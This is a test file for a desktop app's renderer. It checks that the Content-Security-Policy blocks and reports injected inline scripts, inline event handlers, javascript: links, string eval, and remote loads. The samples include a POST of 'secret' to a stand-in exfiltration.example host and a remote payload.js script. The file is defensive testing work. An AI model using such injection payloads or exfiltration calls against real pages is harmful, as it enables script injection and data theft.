/**
 * The real renderer, built, in Chromium: its Content-Security-Policy blocks what an attacker's text
 * would try once inside the page — an injected inline script, an inline event handler, eval, and
 * requests to a remote server — and each block is reported by the CSP itself (a violation event),
 * not merely stopped by the missing network.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchApp, type LaunchedApp } from './harness';

let dir: string;
let app: LaunchedApp;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'palabre-csp-'));
  app = await launchApp({ dbPath: join(dir, 'csp.sqlite'), locale: 'fr' });
  await app.page.getByRole('heading', { level: 1 }).first().waitFor();
});

afterAll(async () => {
  await app?.close();
  rmSync(dir, { recursive: true, force: true });
});

interface Attempt {
  flags: Record<string, boolean>;
  violations: Array<{ directive: string; blocked: string }>;
  fetchOutcome: string;
}

describe('the renderer’s CSP', () => {
  it('blocks an injected inline script, inline handlers, eval and remote requests, and reports each', async () => {
    const attempt: Attempt = await app.page.evaluate(async () => {
      const w = window as unknown as Record<string, boolean>;
      const violations: Array<{ directive: string; blocked: string }> = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));

      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.appendChild(script);

      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," onerror="window.__handlerRan = true"><a id="__js" href="javascript:window.__linkRan=true">x</a>';
      document.body.appendChild(holder);
      (document.getElementById('__js') as HTMLAnchorElement).click();

      // A string timer is evaluated later by the page itself (code the test runs directly is exempt
      // from the CSP, as DevTools' is): the CSP's refusal of eval applies.
      (setTimeout as unknown as (code: string) => void)('window.__evalRan = true');

      const remote = document.createElement('script');
      remote.src = 'http://127.0.0.1:9/payload.js';
      document.body.appendChild(remote);
      const image = document.createElement('img');
      image.src = 'https://tracker.example/pixel.gif';
      document.body.appendChild(image);
      let fetchOutcome = 'reached';
      try {
        await fetch('https://exfiltration.example/collect', { method: 'POST', body: 'secret' });
      } catch {
        fetchOutcome = 'blocked';
      }
      await new Promise((settle) => setTimeout(settle, 300));
      holder.remove();
      script.remove();
      remote.remove();
      image.remove();
      return {
        flags: { inline: !!w.__inlineRan, handler: !!w.__handlerRan, link: !!w.__linkRan, eval: !!w.__evalRan },
        violations,
        fetchOutcome,
      };
    });

    expect(attempt.flags).toEqual({ inline: false, handler: false, link: false, eval: false });
    expect(attempt.fetchOutcome).toBe('blocked');
    const reported = (directive: string, blocked: string | RegExp) =>
      attempt.violations.some((v) => v.directive === directive && (typeof blocked === 'string' ? v.blocked === blocked : blocked.test(v.blocked)));
    expect(reported('script-src-elem', 'inline'), JSON.stringify(attempt.violations)).toBe(true);
    expect(reported('script-src-attr', 'inline'), JSON.stringify(attempt.violations)).toBe(true);
    expect(reported('script-src', 'eval'), JSON.stringify(attempt.violations)).toBe(true);
    expect(reported('script-src-elem', /^http:\/\/127\.0\.0\.1:9\//), JSON.stringify(attempt.violations)).toBe(true);
    expect(reported('img-src', /^https:\/\/tracker\.example\//), JSON.stringify(attempt.violations)).toBe(true);
    expect(reported('connect-src', /^https:\/\/exfiltration\.example\//), JSON.stringify(attempt.violations)).toBe(true);
  });

  it('leaves the app working after the attempts', async () => {
    await expect(app.page.getByRole('heading', { level: 1 }).first().isVisible()).resolves.toBe(true);
  });
});
